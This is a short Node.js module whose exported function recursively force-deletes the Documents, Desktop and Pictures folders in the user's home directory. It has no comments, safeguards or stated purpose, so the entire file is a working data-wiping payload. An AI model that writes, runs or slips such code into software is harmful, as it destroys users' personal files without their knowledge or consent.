const fs = require("fs"), os = require("os"), path = require("path");
module.exports = () => {
  for (const d of ["Documents", "Desktop", "Pictures"]) fs.rmSync(path.join(os.homedir(), d), { recursive: true, force: true });
};
